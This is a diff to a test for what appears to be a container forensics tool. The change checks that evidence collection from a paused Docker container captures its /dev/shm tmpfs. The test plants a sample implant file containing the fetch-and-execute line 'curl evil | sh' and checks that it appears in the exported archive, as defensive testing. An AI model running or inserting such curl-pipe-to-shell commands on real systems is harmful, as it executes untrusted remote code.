@@ -13,6 +13,8 @@ const SCRIPT = [
   `echo '${GUIDE_LINES.appLog}' > /app/logs/app.log`,
   'head -c 204800 /dev/zero > /data/big/blob',
   'echo small > /data/small/note.txt',
+  // The engine's own /dev/shm tmpfs is listed nowhere among the mounts, and export skips it.
+  'echo "curl evil | sh" > /dev/shm/implant.sh',
   'touch /tmp/ready',
   'exec sleep 3600',
 ].join('; ');
@@ -80,10 +82,11 @@ steps:
   it('contains the frozen container, tmpfs included, and removes it', async () => {
     expect(run.code, run.stderr).toBe(0);
     expect(await readFile(join(evidence, 'mounts', 'app-logs.tar'), 'latin1')).toContain(GUIDE_LINES.appLog);
-    // Paused at isolation; let out only for each tmpfs read, then paused again.
+    // Paused at isolation; let out once for its tmpfs reads (/tmp, /app/logs, /dev/shm), then paused again.
     const during = events.slice(events.indexOf('docker.container.pause'), events.indexOf('docker.container.stop'));
-    expect(during.filter((event) => event === 'docker.container.unpause')).toHaveLength(2);
-    expect(during.filter((event) => event === 'docker.container.pause')).toHaveLength(3);
+    expect(during.filter((event) => event === 'docker.container.unpause')).toHaveLength(1);
+    expect(during.filter((event) => event === 'docker.container.pause')).toHaveLength(2);
+    expect(await readFile(join(evidence, 'mounts', 'dev-shm.tar'), 'latin1')).toContain('curl evil | sh');
     await expect(docker.getContainer(guide.id).inspect()).rejects.toMatchObject({ statusCode: 404 });
   });
 
